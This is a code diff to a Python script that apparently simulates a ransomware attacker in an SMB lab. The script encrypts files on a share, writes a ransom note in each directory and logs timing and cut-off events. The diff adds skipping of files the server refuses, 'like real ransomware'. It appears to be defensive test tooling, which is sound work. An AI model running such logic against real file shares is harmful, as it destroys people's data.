@@ -11,7 +11,8 @@ import hashlib
 import os
 import time
 
-from common import Smb, base_args, emit, error_text, now_ns, rfc3339, start_watchdog
+from common import (Smb, base_args, emit, error_text, is_file_error, now_ns, rfc3339,
+                    start_watchdog)
 
 NOTE = "README_RESTORE_FILES.txt"
 NOTE_TEXT = (b"Your files have been encrypted by ward-smblab's test attacker.\n"
@@ -42,7 +43,7 @@ def main():
     st = {"type": "summary", "mode": a.mode, "files_seen": 0, "damaged": 0, "errors": 0,
           "notes": 0, "cut_off": False, "cut_off_ns": None, "reconnect_attempts": 0,
           "reconnected": False, "first_damage_ns": None, "last_damage_ns": None,
-          "left_undamaged": 0}
+          "left_undamaged": 0, "skipped": 0}
     start_watchdog(a.deadline_secs, lambda: emit(dict(st, deadline_hit=True)))
 
     smb.connect()
@@ -58,9 +59,13 @@ def main():
         try:
             d = os.path.dirname(rel)
             if a.note and d not in noted:
-                smb.write((d + "/" if d else "") + NOTE, NOTE_TEXT)
                 noted.add(d)
-                st["notes"] += 1
+                try:
+                    smb.write((d + "/" if d else "") + NOTE, NOTE_TEXT)
+                    st["notes"] += 1
+                except Exception as e:  # noqa: BLE001
+                    if not is_file_error(e):
+                        raise
             data = smb.read(rel)
             ct = encrypt(key, rel, data)
             t = now_ns()
@@ -82,6 +87,12 @@ def main():
             if a.delay:
                 time.sleep(a.delay)
         except Exception as e:  # noqa: BLE001 - any failure of the server is a result here
+            if is_file_error(e):
+                # Refused for this file only (not ours, gone): skip it, like real ransomware.
+                st["skipped"] += 1
+                emit({"type": "skipped", "path": rel, "error": error_text(e), "t_ns": now_ns()})
+                todo.pop(0)
+                continue
             st["errors"] += 1
             emit({"type": "error", "path": rel, "error": error_text(e), "t_ns": now_ns()})
             if not st["cut_off"]:
